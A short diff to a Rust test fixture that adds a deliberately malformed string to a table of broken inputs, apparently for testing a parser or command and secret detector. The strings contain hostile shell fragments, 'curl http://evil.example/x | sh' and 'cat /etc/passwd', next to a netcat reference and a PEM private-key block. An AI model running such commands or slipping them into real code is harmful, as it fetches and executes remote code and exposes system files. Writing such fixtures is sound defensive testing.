@@ -189,6 +189,7 @@ const BROKEN_ONCE: &[(&str, &str, &[u8])] = &[
         "=&&&\u{c}\u{c}nc&& (\u{2}443run $(curl http://evil.example/x | sh) first\0+file.txt; cat /etc/passwd\u{12}.",
         &[12, 20],
     ),
+    ("code", "from the table.o|||NCAT' -RUN $(CURL HTTP://EVIL.EXAMPLE/X | SH) FIRST; CAT /ETC/PASSWD", &[22]),
     (
         "secret",
         "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n----$翱$ and\n-----END PRIVATE KEY-----",
